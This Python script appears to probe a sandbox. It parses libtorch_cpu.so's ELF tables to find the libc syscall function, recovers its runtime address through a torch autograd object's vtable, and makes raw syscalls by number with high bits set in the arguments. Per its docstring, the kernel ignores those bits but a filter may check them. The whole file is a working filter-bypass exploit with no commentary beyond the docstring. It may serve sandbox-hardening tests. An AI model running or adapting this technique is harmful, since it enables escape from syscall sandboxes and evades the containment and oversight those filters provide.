"""Calls the system by number, with bits that the system does not look at and a filter may."""

import ctypes
import os
import struct

import numpy as np
import torch
from attempt import attempt

Word = ctypes.c_size_t
function_type = next(t for t in ctypes.Union.__mro__[1].__subclasses__() if t.__name__ == "CFuncPtr")


class Function(function_type):
    _flags_, _restype_, _argtypes_ = 1, Word, (Word,) * 10


class Place(ctypes.Union):
    _fields_ = [("at", Word), ("words", ctypes.POINTER(Word)), ("call", Function)]


def places(library, name, called):
    """What a name stands for in a library, and where the library keeps the address of a function that it calls."""
    with open(library, "rb") as file:

        def part(at, size):
            file.seek(at)
            return file.read(size)

        head = part(0, 64)
        (start,), (size, count) = struct.unpack_from("<Q", head, 40), struct.unpack_from("<HH", head, 58)
        sections = [struct.unpack("<IIQQQQIIQQ", part(start + size * i, 64)) for i in range(count)]
        table = next(section for section in sections if section[1] == 11)
        symbols = np.frombuffer(part(*table[4:6]), "<u4,<u4,<u8,<u8")
        strings = part(*sections[table[6]][4:6])
        calls = np.concatenate([np.frombuffer(part(*s[4:6]), "<u8,<u8,<u8") for s in sections if s[1] == 4])
    at, other = (np.flatnonzero(symbols["f0"] == strings.index(b"\0" + n + b"\0") + 1)[0] for n in (name, called))
    return int(symbols["f2"][at]), int(calls["f0"][calls["f1"] >> 32 == other][0])


def system(number, *words):
    result = call(number, *words, *[0] * (9 - len(words)))
    if result >> 63:
        raise OSError(f"call {number} is refused")
    return result


table, slot = places(
    torch.__file__.replace("__init__.py", "lib/libtorch_cpu.so"),
    b"_ZTVN5torch8autograd9generated12AddBackward0E",
    b"syscall",
)
node = (torch.ones(1, requires_grad=True) + 1).grad_fn
start = Place(Place(Place(id(node) + 16).words[0]).words[0]).at - 16 - table
call = Place(Place(start + slot).words[0]).call
zeros = torch.zeros(64, dtype=torch.int64)
HIGH = 1 << 32
read, write = os.pipe()
attempt("requests that the kernel keeps", lambda: system(206, 64, zeros.data_ptr()))
attempt("the owner of a pipe", lambda: system(72, read, HIGH | 8, os.getppid()))
attempt("a handler for traps", lambda: system(13, HIGH | 5, zeros.data_ptr(), 0, 8))
attempt("a signal to itself", lambda: system(62, os.getpid(), HIGH | 5))
attempt("a message queue", lambda: system(68, 0, 0o1600))
